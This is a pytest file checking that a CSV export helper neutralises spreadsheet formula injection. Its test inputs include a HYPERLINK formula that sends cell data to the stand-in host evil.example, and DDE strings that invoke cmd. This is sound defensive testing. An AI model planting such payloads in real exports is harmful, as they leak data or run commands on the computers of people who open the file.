"""Issue 12, item 5: CSV formula injection neutralised (OWASP) in every export."""

from __future__ import annotations

import pytest

from revenir.core.csv_safe import neutralise, safe_rows


@pytest.mark.parametrize("cell", ['=HYPERLINK("https://evil.example?"&A1)', "+cmd|' /C calc'!A0", "-2+3+cmd|x",
                                  "@SUM(1+1)*cmd|x", "\t=1+1", "\r=1+1"])
def test_finding_5_formula_cells_are_made_text(cell: str) -> None:
    assert neutralise(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["Martin", "+33 1 23 45 67 89", "-12,50", "2027-12-31", "", 42, None])
def test_finding_5_plain_values_numbers_and_phones_are_unchanged(cell: object) -> None:
    assert neutralise(cell) == cell


def test_finding_5_safe_rows_covers_every_cell() -> None:
    assert safe_rows([{"first_name": "=1+1", "nights": 3}]) == [{"first_name": "'=1+1", "nights": 3}]
